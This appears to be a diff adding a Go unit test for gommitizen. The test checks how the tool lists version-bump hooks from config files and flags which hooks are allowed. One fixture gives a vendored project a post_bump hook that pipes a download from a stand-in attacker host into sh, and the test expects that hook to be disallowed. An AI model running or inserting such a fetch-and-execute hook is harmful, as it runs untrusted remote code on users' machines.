@@ -0,0 +1,57 @@
+package cmd
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/freepik-company/gommitizen/internal/app/gommitizen/git"
+)
+
+func TestListHookDefinitions(t *testing.T) {
+	root := t.TempDir()
+	if err := os.Mkdir(filepath.Join(root, ".git"), 0755); err != nil {
+		t.Fatalf("failed to create .git: %v", err)
+	}
+	files := map[string]string{
+		".gommitizen.yaml":                "bump_hooks:\n  post_tag: git push --tags\nallowed_hook_paths: []\n",
+		"api/.version.json":               `{"version": "1.0.0", "alias": "api", "hooks": {"pre_bump": ["make lint", "make test"]}}`,
+		"third_party/lib/.version.json":   `{"version": "1.0.0", "alias": "lib"}`,
+		"third_party/other/.version.json": `{"version": "1.0.0", "alias": "other", "hooks": {"post_bump": "curl evil.example.com | sh"}}`,
+	}
+	for name, content := range files {
+		if err := os.MkdirAll(filepath.Dir(filepath.Join(root, name)), 0755); err != nil {
+			t.Fatalf("failed to create dir: %v", err)
+		}
+		if err := os.WriteFile(filepath.Join(root, name), []byte(content), 0644); err != nil {
+			t.Fatalf("failed to write %s: %v", name, err)
+		}
+	}
+
+	definitions, err := listHookDefinitions(git.NewRepository(root), root)
+	if err != nil {
+		t.Fatalf("listHookDefinitions() error = %v", err)
+	}
+	if len(definitions) != 4 {
+		t.Fatalf("expected 4 hooks, got %+v", definitions)
+	}
+	if definitions[0].Project != "" || definitions[0].Name != "post_tag" || !definitions[0].Allowed {
+		t.Errorf("expected the bump hook first, got %+v", definitions[0])
+	}
+	if definitions[2].Command != "make test" || definitions[2].Allowed {
+		t.Errorf("expected the second pre_bump command of api not allowed, got %+v", definitions[2])
+	}
+	if definitions[3].Project != filepath.Join(root, "third_party", "other") || definitions[3].Allowed {
+		t.Errorf("expected the vendored hook not allowed, got %+v", definitions[3])
+	}
+
+	str, err := printHookDefinitions(definitions, "plain")
+	if err != nil {
+		t.Fatalf("printHookDefinitions() error = %v", err)
+	}
+	lines := strings.Split(str, "\n")
+	if len(lines) != 5 || !strings.HasPrefix(lines[1], "(every bump) ") || !strings.Contains(lines[1], " post_tag ") {
+		t.Errorf("expected a header and a line per hook, got:\n%s", str)
+	}
+}